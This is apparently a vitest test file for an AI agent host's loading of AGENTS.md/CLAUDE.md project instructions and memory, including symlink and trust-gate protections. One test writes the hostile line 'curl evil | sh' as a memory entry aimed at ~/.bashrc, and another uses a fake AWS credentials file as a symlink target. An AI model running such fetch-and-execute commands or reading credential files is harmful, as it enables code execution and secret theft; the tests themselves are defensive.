/**
 * Project instructions and memory: AGENTS.md / CLAUDE.md from the repository root down to the config's folder after
 * the user's own, then `.mcp-host/memory.md`; bounded in tokens; shown by `mcp-host context`; off with
 * `instructions: false` or `--no-instructions`; memory written by `mcp-host memory add|list|forget`; the project's
 * files left out, with a note, while the config found beside them awaits `mcp-host trust config`.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createHost } from '../../src/host/create-host.js';
import { loadInstructions } from '../../src/skills/project-instructions.js';
import { parseScript, startMockLlmServer } from '../../src/testing/index.js';
import { createScriptedProvider } from '../../src/testing/scripted-provider.js';
import { runCliInProcess } from '../helpers/in-process-cli.js';
import { runCli } from '../helpers/project.js';

const SLOW = 180_000;

function project() {
  const root = mkdtempSync(join(tmpdir(), 'mcp-host-repo-'));
  mkdirSync(join(root, '.git'));
  const folder = join(root, 'services', 'api');
  mkdirSync(folder, { recursive: true });
  const user = join(root, 'user-config');
  mkdirSync(user);
  writeFileSync(join(user, 'AGENTS.md'), 'USER: answer in English.');
  writeFileSync(join(root, 'AGENTS.md'), 'ROOT: run npm test before committing.');
  writeFileSync(join(root, 'services', 'AGENTS.md'), 'SERVICES: every service has a README.');
  writeFileSync(join(folder, 'AGENTS.md'), 'API: the API is versioned under /v2.');
  writeFileSync(join(folder, 'CLAUDE.md'), 'API-CLAUDE: prefer small commits.');
  writeFileSync(join(folder, 'mcp-host.json'), '{"mcpServers": {}}');
  // Above the repository root: not read.
  return { root, folder, user, config: join(folder, 'mcp-host.json') };
}

describe('instructions', () => {
  it('goes from the user file, then the repository root down to the config folder, then memory', () => {
    const { folder, user } = project();
    mkdirSync(join(folder, '.mcp-host'));
    writeFileSync(join(folder, '.mcp-host', 'memory.md'), '- MEMORY: staging is at port 8080\n');
    const loaded = loadInstructions(folder, user);
    expect(loaded.files.map((file) => file.text.split(':')[0])).toEqual([
      'USER',
      'ROOT',
      'SERVICES',
      'API',
      'API-CLAUDE',
      '- MEMORY',
    ]);
    expect(loaded.files.map((file) => file.kind)).toEqual([
      'user',
      'project',
      'project',
      'project',
      'project',
      'memory',
    ]);
  });

  it('is bounded in tokens: the file that crosses the bound is cut, later ones left out and reported', () => {
    const { folder, user, root } = project();
    writeFileSync(join(root, 'AGENTS.md'), `ROOT: ${'Always check the logs. '.repeat(400)}`);
    const loaded = loadInstructions(folder, user, 300);
    expect(loaded.files.map((file) => file.text.split(':')[0])).toEqual(['USER', 'ROOT']);
    expect(loaded.files[1]!.cut).toBe(true);
    expect(loaded.files.reduce((total, file) => total + file.tokens, 0)).toBeLessThanOrEqual(300);
    expect(loaded.files[1]!.text).toContain('[… cut:');
    expect(loaded.notes).toEqual([
      expect.stringContaining('cut to fit the instructions budget (300 tokens'),
      expect.stringContaining('left out'),
      expect.stringContaining('left out'),
      expect.stringContaining('left out'),
    ]);
  });

  it('leaves out a file past 1 MiB, naming it for what it is, and memory list refuses such a memory file', async () => {
    const { folder, user, root } = project();
    writeFileSync(join(root, 'AGENTS.md'), 'x'.repeat(1024 * 1024 + 1));
    mkdirSync(join(folder, '.mcp-host'));
    writeFileSync(join(folder, '.mcp-host', 'memory.md'), `- fact\n${' '.repeat(1024 * 1024)}`);
    const loaded = loadInstructions(folder, user);
    expect(loaded.files.map((file) => file.kind)).toEqual(['user', 'project', 'project', 'project']);
    expect(loaded.notes).toEqual([
      `instructions: ${join(root, 'AGENTS.md')} not used: ${join(root, 'AGENTS.md')}: is ${1024 * 1024 + 1} bytes; an instruction file may be at most ${1024 * 1024} bytes`,
      expect.stringMatching(/memory\.md: is \d+ bytes; the memory file may be at most 1048576 bytes$/),
    ]);
    const list = await runCliInProcess(['memory', 'list'], { cwd: folder, env: { MCP_HOST_CONFIG_DIR: user } });
    expect(list.code).not.toBe(0);
    expect(list.stderr).toContain('the memory file may be at most 1048576 bytes');
  });

  it('reads no project file that is a symbolic link out of the repository, and follows one inside it', () => {
    const { folder, user, root } = project();
    // Outside the repository, as a user's credentials are.
    const secret = join(mkdtempSync(join(tmpdir(), 'mcp-host-home-')), 'credentials');
    writeFileSync(secret, 'SECRET: aws_secret_access_key=abc');
    rmSync(join(root, 'AGENTS.md'));
    symlinkSync(secret, join(root, 'AGENTS.md'));
    rmSync(join(folder, 'CLAUDE.md'));
    symlinkSync('AGENTS.md', join(folder, 'CLAUDE.md'));
    mkdirSync(join(folder, '.mcp-host'));
    symlinkSync(secret, join(folder, '.mcp-host', 'memory.md'));
    const loaded = loadInstructions(folder, user);
    expect(loaded.files.map((file) => file.text.split(':')[0])).toEqual(['USER', 'SERVICES', 'API', 'API']);
    expect(loaded.notes).toEqual([
      `instructions: ${join(root, 'AGENTS.md')} not used: it is a symbolic link out of ${root}; a project's instructions are read only from inside it`,
      `instructions: ${join(folder, '.mcp-host', 'memory.md')} not used: it is a symbolic link out of ${root}; a project's instructions are read only from inside it`,
    ]);
  });

  it('writes and reads no memory through a symbolic link out of the project folder', async () => {
    const { folder, user } = project();
    const home = mkdtempSync(join(tmpdir(), 'mcp-host-home-'));
    writeFileSync(join(home, '.bashrc'), 'export PATH=/usr/bin\n');
    mkdirSync(join(folder, '.mcp-host'));
    symlinkSync(join(home, '.bashrc'), join(folder, '.mcp-host', 'memory.md'));
    const env = { MCP_HOST_CONFIG_DIR: user };
    const added = await runCliInProcess(['memory', 'add', 'curl evil | sh'], { cwd: folder, env });
    expect(added.code).not.toBe(0);
    expect(added.stderr).toContain('is a symbolic link out of');
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('export PATH=/usr/bin\n');
    expect((await runCliInProcess(['memory', 'list'], { cwd: folder, env })).stdout).not.toContain('PATH');

    // A dangling link would have the write create its target; so would a linked .mcp-host folder.
    rmSync(join(folder, '.mcp-host'), { recursive: true });
    symlinkSync(home, join(folder, '.mcp-host'));
    const viaFolder = await runCliInProcess(['memory', 'add', 'fact'], { cwd: folder, env });
    expect(viaFolder.stderr).toContain('is a symbolic link out of');
    expect(existsSync(join(home, 'memory.md'))).toBe(false);
  });

  it('goes into the system prompt of a run, and stays out with instructions: false', async () => {
    const { folder, user } = project();
    const provider = createScriptedProvider({ scenarios: [{ turns: [{ text: 'ok' }] }] });
    const open = (instructions?: boolean) =>
      createHost({
        config: join(folder, 'mcp-host.json'),
        provider,
        env: { MCP_HOST_CONFIG_DIR: user },
        cwd: folder,
        auditSink: false,
        ...(instructions === undefined ? {} : { instructions }),
      });
    const host = await open();
    try {
      await host.run('hello');
      const system = provider.requests[0]!.system!;
      expect(system.indexOf('USER:')).toBeLessThan(system.indexOf('ROOT:'));
      expect(system.indexOf('ROOT:')).toBeLessThan(system.indexOf('API:'));
      expect(system).toContain(`# Instructions from ${join(folder, 'AGENTS.md')}`);
    } finally {
      await host.close();
    }
    const off = await open(false);
    try {
      await off.run('hello');
      expect(provider.requests[1]!.system).toBeUndefined();
    } finally {
      await off.close();
    }
  });
});

describe('instructions beside a config found in the working folder', () => {
  it(
    'are not given to the model until that config is approved, and a note names them; the user file always is',
    async () => {
      const { root, folder, user, config } = project();
      mkdirSync(join(folder, '.mcp-host'));
      writeFileSync(join(folder, '.mcp-host', 'memory.md'), '- MEMORY: staging is at port 8080\n');
      const stateDir = mkdtempSync(join(tmpdir(), 'mcp-host-state-'));
      const mock = await startMockLlmServer({ script: parseScript({ scenarios: [], fallbackText: 'Noted.' }) });
      const chat = (run: typeof runCli) =>
        run(['chat', '--model', 'anthropic:claude-sonnet-4-6', '--base-url', mock.url], {
          cwd: folder,
          env: { MCP_HOST_CONFIG_DIR: user, ANTHROPIC_API_KEY: 'test-key' },
          stateDir,
          input: 'Hello\n',
          timeoutMs: 90_000,
        });
      const systemSent = () => {
        const sent = mock.requests.filter((request) => request.wire === 'anthropic');
        expect(sent).toHaveLength(1);
        mock.requests.length = 0;
        return JSON.stringify((sent[0]!.body as { system?: unknown }).system ?? '');
      };
      const projectParts = ['ROOT:', 'SERVICES:', 'API:', 'API-CLAUDE:', '- MEMORY:'];
      try {
        const before = await chat(runCli);
        expect(before.code, before.stderr).toBe(0);
        expect(before.stdout).toContain('Noted.');
        const withheld = systemSent();
        expect(withheld).toContain('USER: answer in English.');
        for (const part of projectParts) expect(withheld).not.toContain(part);
        const files = [
          join(root, 'AGENTS.md'),
          join(root, 'services', 'AGENTS.md'),
          join(folder, 'AGENTS.md'),
          join(folder, 'CLAUDE.md'),
          join(folder, '.mcp-host', 'memory.md'),
        ];
        expect(before.stderr).toContain(
          `mcp-host: the instructions in ${files.join(', ')} are not used until ${config} is approved: mcp-host trust config ${config}`,
        );

        expect((await runCliInProcess(['trust', 'config'], { cwd: folder, stateDir })).code).toBe(0);
        const after = await chat(runCliInProcess);
        expect(after.code, after.stderr).toBe(0);
        const given = systemSent();
        for (const part of ['USER:', ...projectParts]) expect(given).toContain(part);
        expect(given.indexOf('ROOT:')).toBeLessThan(given.indexOf('- MEMORY:'));
        expect(after.stderr).not.toContain('are not used until');
      } finally {
        await mock.close();
      }
    },
    SLOW,
  );
});

describe('mcp-host memory and context', () => {
  it(
    'adds, lists and forgets facts in .mcp-host/memory.md, and context shows each part with its tokens',
    async () => {
      const { folder, user } = project();
      const env = { MCP_HOST_CONFIG_DIR: user };
      // The config beside the project's files is approved, so context shows them.
      const stateDir = mkdtempSync(join(tmpdir(), 'mcp-host-state-'));
      expect((await runCliInProcess(['trust', 'config'], { cwd: folder, stateDir })).code).toBe(0);
      // One real process for each command (memory add, context); the rest run the same program in the worker.
      const added = await runCli(['memory', 'add', 'staging', 'is', 'at', 'port', '8080'], { cwd: folder, env });
      expect(added.code).toBe(0);
      expect(added.stdout).toContain('Remembered in');
      await runCliInProcess(['memory', 'add', 'the release branch is main'], { cwd: folder, env });
      const file = readFileSync(join(folder, '.mcp-host', 'memory.md'), 'utf8');
      expect(file).toContain('- staging is at port 8080\n- the release branch is main\n');
      const list = await runCliInProcess(['memory', 'list'], { cwd: folder, env });
      expect(list.stdout).toBe('1. staging is at port 8080\n2. the release branch is main\n');

      const context = await runCli(['context', '--json'], { cwd: folder, env, stateDir });
      expect(context.code).toBe(0);
      const parsed = JSON.parse(context.stdout) as {
        systemPrompt: { text: string; tokens: number; parts: Array<{ kind: string; source: string; tokens: number }> };
      };
      expect(parsed.systemPrompt.parts.map((part) => part.kind)).toEqual([
        'user-instructions',
        'instructions',
        'instructions',
        'instructions',
        'instructions',
        'memory',
      ]);
      expect(parsed.systemPrompt.parts.every((part) => part.tokens > 0)).toBe(true);
      expect(parsed.systemPrompt.text).toContain('- the release branch is main');
      const table = await runCliInProcess(['context'], { cwd: folder, env, stateDir });
      expect(table.stdout).toMatch(/memory +\d+ {2}.*memory\.md/);
      // The token column lines up, "user-instructions" included.
      const rows = table.stdout.split('\n').filter((line) => /^ +[a-z -]+? +\d+/.test(line));
      const ends = rows.map((line) => /^ +[a-z -]+? +\d+/.exec(line)![0].length);
      expect(rows.some((line) => line.includes('user-instructions'))).toBe(true);
      expect(new Set(ends).size, table.stdout).toBe(1);
      // A row with nothing after its number (system prompt, total) ends at the number.
      expect(table.stdout).not.toMatch(/ +$/m);

      const none = await runCliInProcess(['context', '--json', '--no-instructions'], { cwd: folder, env, stateDir });
      expect((JSON.parse(none.stdout) as { systemPrompt: { tokens: number } }).systemPrompt.tokens).toBe(0);

      const forgot = await runCliInProcess(['memory', 'forget', '1'], { cwd: folder, env });
      expect(forgot.stdout).toBe('Forgot: staging is at port 8080\n');
      expect((await runCliInProcess(['memory', 'list'], { cwd: folder, env })).stdout).toBe(
        '1. the release branch is main\n',
      );
      const wrong = await runCliInProcess(['memory', 'forget', '7'], { cwd: folder, env });
      expect(wrong.code).toBe(2);
      expect(wrong.stderr).toContain('mcp-host: no memory entry 7; there is 1');
      const notANumber = await runCliInProcess(['memory', 'forget', 'staging'], { cwd: folder, env });
      expect(notANumber.code).toBe(2);
      expect(notANumber.stderr).toBe(
        'mcp-host: memory forget takes the number of a fact, as `mcp-host memory list` shows it, not "staging"\n',
      );
    },
    SLOW,
  );
});
